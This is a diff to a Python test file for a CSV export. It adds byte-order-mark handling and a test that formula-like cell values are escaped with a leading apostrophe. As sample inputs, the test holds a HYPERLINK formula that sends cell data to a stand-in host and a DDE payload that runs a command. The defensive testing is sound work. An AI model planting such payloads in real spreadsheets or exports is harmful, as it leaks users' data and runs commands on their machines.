@@ -28,8 +28,15 @@ def body(response) -> str:
     return b"".join(response.streaming_content).decode("utf-8")
 
 
+def csv_text(response) -> str:
+    """The CSV without its byte-order mark, which every CSV export starts with."""
+    text = body(response)
+    assert text.startswith("\ufeff")
+    return text.removeprefix("\ufeff")
+
+
 def csv_rows(response) -> list[dict]:
-    return list(csv.DictReader(io.StringIO(body(response))))
+    return list(csv.DictReader(io.StringIO(csv_text(response))))
 
 
 def test_csv_has_stable_columns_and_one_row_per_initiative(api):
@@ -45,7 +52,7 @@ def test_csv_has_stable_columns_and_one_row_per_initiative(api):
 
     assert response["Content-Type"] == "text/csv; charset=utf-8"
     assert "attachment" in response["Content-Disposition"]
-    text = body(response)
+    text = csv_text(response)
     assert next(csv.reader(io.StringIO(text))) == CSV_COLUMNS
     rows = list(csv.DictReader(io.StringIO(text)))
     assert len(rows) == 2
@@ -60,6 +67,28 @@ def test_csv_has_stable_columns_and_one_row_per_initiative(api):
     assert row["url"] == f"http://testserver/initiatives/{initiative.slug}/"
     unassessed = next(r for r in rows if r["nom"] == "Sans évaluation")
     assert (unassessed["eligible"], unassessed["score"]) == ("", "")
+
+
+def test_csv_cells_cannot_run_as_spreadsheet_formulas(api):
+    """A retailer chooses the name: a formula in it must reach the spreadsheet as text."""
+    link = '=HYPERLINK("http://evil.example/?"&A1,"Voir la fiche")'
+    command = "=cmd|' /C calc'!A0"
+    assess(InitiativeFactory(name=link, opening_hours="@SUM(1+1)", phone="+33 5 61 00 00 00"))
+    InitiativeFactory(name=command, latitude=43.1, longitude=-0.5)
+
+    response = api.get(LIST_URL, {"format": "csv"})
+
+    raw = b"".join(response.streaming_content)
+    assert raw.startswith("\ufeff".encode())
+    rows = {row["id"]: row for row in csv.DictReader(io.StringIO(raw.decode("utf-8-sig")))}
+    linked = next(row for row in rows.values() if row["nom"].endswith(link))
+    assert linked["nom"] == "'" + link
+    assert linked["horaires"] == "'@SUM(1+1)"
+    assert linked["telephone"] == "'+33 5 61 00 00 00"
+    assert linked["score"] == "62.5"  # numbers stay numbers
+    other = next(row for row in rows.values() if row["nom"].endswith(command))
+    assert other["nom"] == "'" + command
+    assert other["longitude"] == "-0.5"
 
 
 def test_csv_honours_the_filters_and_returns_every_page(api):
